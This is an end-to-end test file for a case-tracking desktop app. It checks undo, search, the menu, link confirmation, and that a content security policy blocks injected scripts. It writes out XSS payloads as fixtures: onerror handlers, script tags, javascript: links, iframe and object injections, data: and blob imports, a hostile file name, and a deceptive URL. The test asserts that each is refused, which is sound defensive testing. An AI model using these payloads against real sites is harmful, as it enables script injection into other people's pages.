// What belongs to the window itself: undo, finding by Ctrl+K, the menu, links that ask first, and that nothing from
// outside runs, whatever it is called and wherever it stands.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { findings } from './axe.mjs';
import { openPage, root, startProgram } from './program.mjs';
import { inSteps } from './play.mjs';

const hostile = `<img src=x onerror="window.pwned='image'"><script>window.pwned='script'</script>`;
const folder = mkdtempSync(join(tmpdir(), 'constancia-shell-'));
// A file's name can hold all but a slash.
const file = join(folder, `<img src=x onerror=window.pwned='file'>.txt`);
writeFileSync(file, '<script>window.pwned="text"</script>\n');
const program = await startProgram({ CONSTANCIA_DIALOG_OPEN: file });
const found = [];
const see = async (page, where) => found.push(...(await findings(page, where)));

async function startCase(page) {
  await page.goto(`${program.address}#/new`);
  await page.getByLabel('What is it about?').fill(`Fibre ${hostile}`);
  await page.getByLabel('Company', { exact: true }).fill('Iberluz');
  await page.keyboard.press('Control+Enter');
  await page.getByText('The case has begun.').waitFor();
}

/** Puts a contact on record as the page does, by the program itself: its form has a test of its own. */
const log = (page, summary, reference) =>
  page.evaluate(
    async ([summary, reference]) => {
      const { Cases, Contacts } = window.go.app;
      const [{ id }] = await Cases.List();
      const parts = { people: [], failures: [], promises: [], transfers: '', hold: '', talk: '', madeBy: '' };
      const texts = { role: '', when: '', offset: '', number: '', verbatim: '', supervisor: '', basis: '' };
      const about = { caseId: id, company: 'Iberluz', zone: 'Europe/Madrid', direction: 'outgoing', channel: 'phone' };
      await Contacts.Log({ ...parts, ...texts, ...about, summary, companyReference: reference });
    },
    [summary, reference],
  );

async function undoWhatWasDone(page) {
  await page.getByRole('tab', { name: /Promises/ }).click();
  await page.getByRole('button', { name: 'Add a promise' }).press('Enter');
  await page.getByLabel('What they promised').fill('A technician on Monday');
  await page.getByRole('dialog').getByRole('button', { name: 'Save' }).press('Enter');
  const promise = page.getByRole('tabpanel').getByText('A technician on Monday');
  await promise.waitFor();
  await see(page, 'undo bar');
  await page.keyboard.press('Control+z');
  await promise.waitFor({ state: 'detached' });
  await page.getByText('Undone:').waitFor();
  await page.keyboard.press('Control+Shift+z');
  await promise.waitFor();
  await page.getByRole('button', { name: 'Undo' }).press('Enter');
  await promise.waitFor({ state: 'detached' });
  await see(page, 'undo bar, undone');
  await page.getByRole('button', { name: 'Do it again' }).press('Enter');
  await promise.waitFor();
}

async function findByAPartOfANumber(page) {
  await log(page, `They will look into it ${hostile}`, 'IB-2026-44718');
  await page.goto(`${program.address}#/settings`);
  await page.keyboard.press('Control+k');
  await see(page, 'palette, empty');
  await page.keyboard.type('4471');
  const group = page.getByRole('group', { name: 'What happened' });
  await group.getByRole('option').waitFor();
  await see(page, 'palette, found');
  await page.keyboard.press('Enter');
  const entry = page.locator('[data-revealed]');
  await entry.getByText('They will look into it').waitFor();
  assert.match(page.url(), /#\/case\/[^/]+\/timeline\/[^/]+$/);
  assert.equal(await entry.evaluate((element) => element === document.activeElement), true);
  await see(page, 'entry that was looked for');
  await page.keyboard.press('Control+k');
  assert.match(await page.getByRole('group', { name: 'Recent' }).getByRole('option').first().innerText(), /look into/);
  await page.keyboard.type('no such words');
  await page.getByText('Nothing fits “no such words”').waitFor();
  await see(page, 'palette, nothing');
  await page.keyboard.press('Escape');
}

async function goThroughMenu(page) {
  await page.getByRole('button', { name: 'Menu', exact: true }).press('Enter');
  await page.getByRole('menuitem').first().waitFor();
  assert.equal(await page.getByRole('menuitem', { name: 'Find anything' }).locator('kbd').innerText(), 'Ctrl K');
  await see(page, 'menu');
  await page.keyboard.press('s');
  await page.keyboard.press('Enter');
  await page.getByRole('heading', { level: 1, name: 'Settings' }).waitFor();
  await page.goBack();
}

async function addHostileFile(page) {
  await page.evaluate(async () => {
    const { Cases, Evidence } = window.go.app;
    const [{ id }] = await Cases.List();
    location.hash = `#/case/${id}/evidence`;
    return Evidence.Choose.length;
  });
  await page.getByRole('button', { name: 'Choose files' }).first().press('Enter');
  await page.getByRole('dialog').getByText('onerror=window.pwned').first().waitFor();
  await page
    .getByRole('dialog')
    .getByRole('button', { name: /Save|Add/ })
    .last()
    .press('Enter');
  await page.getByRole('tabpanel').getByText('onerror=window.pwned').first().waitFor();
}

/** Every screen with what was typed, and then what a script that got in would try. */
async function nothingFromOutsideRuns(page) {
  for (const screen of ['#/', '#/cases', '#/people', '#/settings']) {
    await page.goto(program.address + screen);
    await page.locator('main h1, main .first').first().waitFor();
  }
  assert.equal(await page.evaluate(() => window.pwned), undefined);

  const refused = await page.evaluate(async () => {
    const outcome = {};
    const violations = [];
    document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
    outcome.elsewhere = await import('https://elsewhere.example/x.js').then(
      () => 'ran',
      () => 'refused',
    );
    outcome.data = await import('data:text/javascript,window.pwned="data"').then(
      () => 'ran',
      () => 'refused',
    );
    outcome.blob = await import(
      URL.createObjectURL(new Blob(['window.pwned="blob"'], { type: 'text/javascript' }))
    ).then(
      () => 'ran',
      () => 'refused',
    );
    try {
      outcome.eval = new Function('return "ran"')();
    } catch {
      outcome.eval = 'refused';
    }
    outcome.fetched = await fetch('https://elsewhere.example/').then(
      () => 'left',
      () => 'refused',
    );
    const inject = (html) => {
      const place = document.createElement('div');
      place.innerHTML = html;
      document.body.append(place);
      place.querySelector('a')?.click();
    };
    inject(`<img src="data:," onerror="window.pwned='handler'">`);
    inject(`<a href="javascript:window.pwned='link'">x</a>`);
    inject(`<iframe srcdoc="<script>parent.pwned='frame'</script>"></iframe>`);
    inject(`<object data="data:text/html,<script>parent.pwned='object'</script>"></object>`);
    const script = document.createElement('script');
    script.textContent = 'window.pwned = "inline"';
    document.body.append(script);
    await new Promise((done) => setTimeout(done, 400));
    return { ...outcome, pwned: window.pwned ?? 'nothing', violations: [...new Set(violations)].length };
  });
  const { violations, ...rest } = refused;
  const no = 'refused';
  assert.deepEqual(rest, { elsewhere: no, data: no, blob: no, eval: no, fetched: no, pwned: 'nothing' });
  assert.ok(violations > 1, 'the content policy said so');
}

async function everyPageHasThePolicy(page) {
  const addresses = ['', 'index.html', 'no-such-page', 'assets/none.js'];
  for (const source of await page.evaluate(() => [...document.scripts].map((script) => script.src))) {
    // Wails’ own scripts do not pass the middleware; a policy says something only on what is shown as a page.
    if (source && !source.includes('/wails/')) addresses.push(source.replace(program.address, ''));
  }
  for (const address of addresses) {
    const answer = await fetch(program.address + address);
    const policy = answer.headers.get('content-security-policy') ?? '';
    assert.match(policy, /script-src 'self'(;|$)/, `the policy of /${address} is “${policy}”`);
    assert.match(policy, /object-src 'none'/);
    assert.doesNotMatch(policy, /unsafe-eval/);
  }
}

/** An email with a link that deceives, brought in by the command line beside the window. */
async function linksAskFirst(page) {
  const mail = join(folder, 'mail.eml');
  const head = 'From: Iberluz <pay@iberluz.example>\nTo: nuria@correo.example\nSubject: Pay now\n';
  const date = 'Date: Mon, 02 Mar 2026 10:05:00 +0100\nMessage-ID: <pay@iberluz.example>\n';
  const type = 'MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\n';
  const deceiving = 'https://iberluz.example@elsewhere.example/pay';
  writeFileSync(mail, `${head}${date}${type}${hostile}\nPay at ${deceiving} or javascript:alert(1).\n`);
  const id = await page.evaluate(async () => (await window.go.app.Cases.List())[0].id);
  execFileSync(join(root, 'out/constancia-dev'), ['mail', 'import', 'files', mail, '--case', id], {
    env: program.environment,
    stdio: ['ignore', 'ignore', 'inherit'],
  });
  await page.goto(`${program.address}#/case/${id}/timeline`);
  await page.reload();
  await page.locator('[data-kind=message] button').first().press('Enter');
  await page.getByRole('tab', { name: /^Links/ }).press('Enter');
  const link = page.getByRole('tabpanel').getByRole('button', { name: `Open… ${deceiving}` });
  await link.waitFor();
  assert.equal(await page.getByRole('button', { name: /javascript/ }).count(), 0);
  await link.press('Enter');
  const asked = page.getByRole('dialog', { name: 'Leave the program?' });
  assert.equal(await asked.locator('strong').innerText(), 'elsewhere.example');
  await see(page, 'link dialog');
  await asked.getByRole('button', { name: 'Cancel' }).press('Enter');
  const before = page.url();
  await page.evaluate(() => {
    const anchor = Object.assign(document.createElement('a'), { href: 'https://elsewhere.example/', textContent: 'x' });
    document.querySelector('main').append(anchor);
    anchor.click();
    anchor.remove();
  });
  assert.equal(page.url(), before, 'a link in the page leads nowhere by itself');
}

/** The same screens in the other languages and themes. */
async function inEveryLanguage() {
  for (const [locale, colorScheme, menu] of [
    ['es-ES', 'light', 'Menú'],
    ['ca-ES', 'dark', 'Menú'],
  ]) {
    const other = await openPage(program, { locale, colorScheme });
    await other.page.locator('nav').waitFor();
    await other.page.keyboard.press('Control+k');
    await see(other.page, `palette, ${locale}`);
    await other.page.keyboard.type('a');
    await other.page.getByRole('option').first().waitFor();
    await see(other.page, `palette with lines, ${locale}`);
    await other.page.keyboard.press('Escape');
    await other.page.getByRole('button', { name: menu, exact: true }).press('Enter');
    await see(other.page, `menu, ${locale}`);
    assert.deepEqual(other.troubles, []);
    await other.close();
  }
}

let view;
try {
  view = await openPage(program);
  const steps = [
    startCase,
    undoWhatWasDone,
    findByAPartOfANumber,
    goThroughMenu,
    addHostileFile,
    everyPageHasThePolicy,
  ];
  await inSteps([...steps, linksAskFirst, inEveryLanguage], view.page);
  assert.deepEqual(view.troubles, []);
  assert.deepEqual(found, []);
  // Last: what is tried here is refused, and the console says so.
  await nothingFromOutsideRuns(view.page);
  console.log('nothingFromOutsideRuns');
  assert.deepEqual(
    view.troubles.filter((trouble) => trouble.startsWith('error:')),
    [],
  );
} catch (error) {
  if (view) await view.page.screenshot({ path: join(tmpdir(), 'constancia-e2e-failed.png') }).catch(() => {});
  console.error(program.said());
  throw error;
} finally {
  await program.close();
  rmSync(dirname(file), { recursive: true });
}
